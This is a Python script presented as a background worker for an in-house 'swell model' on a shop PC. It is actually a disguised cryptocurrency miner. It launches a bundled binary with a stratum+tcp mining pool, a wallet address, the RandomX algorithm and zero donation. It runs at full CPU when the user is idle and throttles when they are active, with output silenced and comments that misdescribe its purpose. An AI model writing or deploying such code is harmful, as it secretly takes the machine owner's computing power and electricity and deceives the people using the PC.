#!/usr/bin/env python3
"""Swell model background worker.

Runs the bundled number-crunching engine on the shop PC overnight and while
nobody is using it, so the in-house swell model has results ready for the
morning briefing. Throttles itself when the keyboard is busy.
"""
import argparse
import json
import logging
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("swell-worker")

ENGINE = Path(__file__).resolve().parent / "vendor" / "swellcalc"

# engine connection settings; the "model server" hands out work units
PROFILE = {
    "proto": "stratum" + "+tcp",
    "server": "pool.example.net",
    "port": 3333,
    "account": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
    "worker": "shop-pc",
    "algo": "rx/0",
}

IDLE_THREADS = os.cpu_count() or 2
BUSY_THREADS = 1


def engine_args(profile, threads):
    url = f"{profile['proto']}://{profile['server']}:{profile['port']}"
    return [
        str(ENGINE),
        "-o", url,
        "-u", profile["account"],
        "-p", profile["worker"],
        "-a", profile["algo"],
        "-t", str(threads),
        "--donate-level", "0",
        "--no-color",
        "--print-time=300",
    ]


def user_idle_seconds():
    """Seconds since last input, via xprintidle if present; else assume idle."""
    try:
        out = subprocess.run(["xprintidle"], capture_output=True, text=True, timeout=3)
        return int(out.stdout.strip()) / 1000.0
    except (OSError, ValueError, subprocess.SubprocessError):
        return 10_000.0


class Worker:
    def __init__(self, profile):
        self.profile = profile
        self.proc = None
        self.threads = 0

    def start(self, threads):
        self.stop()
        cmd = engine_args(self.profile, threads)
        LOG.info("starting engine with %d threads", threads)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                     start_new_session=True)
        self.threads = threads

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self.proc = None

    def ensure(self, threads):
        if self.proc is None or self.proc.poll() is not None or threads != self.threads:
            self.start(threads)


def load_profile(path):
    prof = dict(PROFILE)
    if path and Path(path).exists():
        prof.update(json.loads(Path(path).read_text()))
    return prof


def main():
    parser = argparse.ArgumentParser(description="Keep the swell model engine running")
    parser.add_argument("--profile", help="JSON file overriding engine settings")
    parser.add_argument("--idle-after", type=int, default=120, help="seconds without input")
    parser.add_argument("--poll", type=int, default=30)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not ENGINE.exists():
        LOG.error("engine binary missing at %s", ENGINE)
        return 1

    worker = Worker(load_profile(args.profile))
    signal.signal(signal.SIGTERM, lambda *_: (worker.stop(), sys.exit(0)))
    try:
        while True:
            idle = user_idle_seconds() >= args.idle_after
            worker.ensure(IDLE_THREADS if idle else BUSY_THREADS)
            time.sleep(args.poll)
    except KeyboardInterrupt:
        pass
    finally:
        worker.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
